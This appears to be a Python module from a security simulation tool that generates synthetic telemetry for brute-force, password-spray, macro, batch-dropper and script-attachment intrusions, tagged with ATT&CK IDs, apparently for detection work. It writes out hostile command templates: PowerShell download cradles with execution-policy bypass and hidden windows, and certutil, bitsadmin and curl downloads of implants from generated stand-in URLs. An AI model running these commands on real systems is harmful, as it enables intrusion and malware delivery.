"""Attacks that come in from outside: guessed passwords and scripts in documents."""

from __future__ import annotations

from collections.abc import Iterator

from tocsin.simulate.actions import LogonType, NameLookup, ScriptBlock
from tocsin.simulate.scenarios.cast import Act, Cast, Scenario
from tocsin.simulate.software import OFFICE, POWERSHELL


def _brute_force(cast: Cast) -> Iterator[Act]:
    attempts = int(min(600, 20 * cast.rng.paretovariate(1.3)))
    type_ = cast.rng.choice((LogonType.REMOTE, LogonType.NETWORK))
    account = cast.admin if cast.rng.random() < 0.3 else cast.victim
    for _ in range(attempts):
        attempt = cast.log_on(account, cast.server, cast.intruder, type_, success=False)
        yield Act("guess-passwords", "T1110.001", attempt)
    entry = cast.log_on(account, cast.server, cast.intruder, type_)
    yield Act("log-on-with-guessed-password", "T1078", entry)
    look = cast.one_of("whoami.exe /all", "whoami.exe /priv", "whoami /groups")
    yield Act("look-around", "T1033", cast.run(look, image=WHOAMI, account=account, machine=cast.server))


def _spray(cast: Cast) -> Iterator[Act]:
    accounts = list(cast.organisation.accounts)
    cast.rng.shuffle(accounts)
    for account in accounts:
        attempt = cast.log_on(account, cast.controller, cast.intruder, LogonType.NETWORK, success=False)
        yield Act("spray-one-password", "T1110.003", attempt)
    entry = cast.log_on(cast.victim, cast.controller, cast.intruder, LogonType.NETWORK)
    yield Act("log-on-with-sprayed-password", "T1078.002", entry)


def _encoded_powershell(cast: Cast) -> Iterator[Act]:
    office = f"{OFFICE}\\{cast.one_of('WINWORD.EXE', 'EXCEL.EXE')}"
    script = cast.download()
    yield Act("run-encoded-script", "T1059.001", cast.powershell(script, parent=office))
    yield Act("run-encoded-script", "T1059.001", ScriptBlock(cast.victim, cast.desk, script))
    yield Act("call-home", "T1071.001", cast.call_home(POWERSHELL))
    tool = cast.dropped("ps1")
    fetch = cast.one_of(
        f"(New-Object Net.WebClient).DownloadFile('{cast.url('ps1')}','{tool}')",
        f"Invoke-WebRequest {cast.url('ps1')} -OutFile {tool}",
        f"Start-BitsTransfer -Source {cast.url('ps1')} -Destination {tool}",
    )
    line = f'powershell.exe {cast.one_of("-ep bypass", "-ExecutionPolicy Bypass", "-nop")} -c "{fetch}"'
    yield Act("fetch-tool", "T1105", cast.run(line, parent=POWERSHELL))
    yield Act("fetch-tool", "T1105", cast.file(tool, POWERSHELL))
    hidden = cast.one_of("-WindowStyle Hidden", "-w hidden", "-W 1")
    run = f"powershell.exe {hidden} -ExecutionPolicy Bypass -File {tool}"
    yield Act("run-tool", "T1059.001", cast.run(run, parent=POWERSHELL))


def _shell_dropper(cast: Cast) -> Iterator[Act]:
    batch = cast.dropped(cast.one_of("cmd", "bat"))
    line = f"cmd.exe {cast.one_of('/c', '/C', '/d /c')} {batch}"
    yield Act("run-batch-file", "T1059.003", cast.run(line, parent=f"{OFFICE}\\OUTLOOK.EXE"))
    fetch = cast.one_of(
        f"certutil.exe -urlcache -split -f {cast.url('exe')} {cast.implant}",
        f"certutil.exe /verifyctl /f /split {cast.url('exe')} {cast.implant}",
        f"bitsadmin.exe /transfer {cast.word()} /priority foreground {cast.url('exe')} {cast.implant}",
        f"curl.exe -s -o {cast.implant} {cast.url('bin')}",
    )
    yield Act("fetch-tool", "T1105", cast.run(fetch))
    yield Act("fetch-tool", "T1105", cast.file(cast.implant, f"C:\\Windows\\System32\\{fetch.split()[0]}"))
    decode = f"certutil.exe {cast.cased('-decode')} {cast.dropped('txt')} {cast.implant}"
    yield Act("decode-tool", "T1140", cast.run(decode))
    yield Act("run-tool", "T1204.002", cast.run(cast.implant, image=cast.implant))
    yield Act("call-home", "T1071.001", cast.call_home(cast.implant))


def _script_attachment(cast: Cast) -> Iterator[Act]:
    script = (
        f"C:\\Users\\{cast.victim.name}\\Downloads\\{cast.word().title()}_{cast.one_of('invoice', 'scan')}"
    )
    extension = cast.one_of("js", "vbs", "hta")
    path = f"{script}.{extension}"
    host = {"js": "wscript.exe", "vbs": "wscript.exe", "hta": "mshta.exe"}[extension]
    technique = {"js": "T1059.007", "vbs": "T1059.005", "hta": "T1218.005"}[extension]
    image = f"C:\\Windows\\System32\\{host}"
    explorer = "C:\\Windows\\explorer.exe"
    yield Act(f"open-{extension}", technique, cast.run(f'"{image}" "{path}"', image=image, parent=explorer))
    shell = f"cmd.exe /c powershell -w hidden -c {cast.download()}"
    yield Act("run-download-script", "T1059.001", cast.run(shell, parent=image))
    name = f"{cast.word()}{cast.word()}.top"
    yield Act("look-up-server", "T1071.001", NameLookup(cast.victim, cast.desk, image, name, cast.intruder))
    yield Act("look-up-server", "T1071.001", cast.call_home(image))


WHOAMI = "C:\\Windows\\System32\\whoami.exe"

SCENARIOS = (
    Scenario("brute-force", "Guess an account's password from outside, then log on", _brute_force, haste=5),
    Scenario("password-spray", "Try one password on all accounts from outside", _spray, haste=5),
    Scenario("encoded-powershell", "A document's macro runs an encoded download script", _encoded_powershell),
    Scenario(
        "shell-dropper", "A mailed batch file fetches a program with the system's own tools", _shell_dropper
    ),
    Scenario("script-attachment", "A script sent by mail starts a hidden download", _script_attachment),
)
